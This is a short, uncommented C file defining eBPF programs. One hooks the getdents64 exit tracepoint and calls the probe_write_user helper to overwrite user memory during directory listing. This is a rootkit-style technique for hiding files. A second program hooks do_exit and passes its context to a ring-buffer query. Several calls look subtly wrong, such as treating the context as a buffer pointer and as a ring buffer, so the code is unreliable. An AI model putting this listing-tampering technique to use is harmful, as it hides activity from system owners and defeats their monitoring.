#define SEC(name) __attribute__((section(name), used))
static long (*probe_read_user)(void *, unsigned, const void *) = (void *)112;
static long (*probe_write_user)(void *, const void *, unsigned) = (void *)36;
static long (*ringbuf_query)(void *, unsigned long) = (void *)134;
SEC("tracepoint/syscalls/sys_exit_getdents64") int listing(long *context) {
  char entry = 0;
  probe_read_user(&entry, 1, (void *)context[0]);
  entry = 0;
  return (int)probe_write_user((void *)context[0], &entry, 1);
}
SEC("kprobe/do_exit") int ends(long *context) {
  return (int)ringbuf_query(context, 0);
}
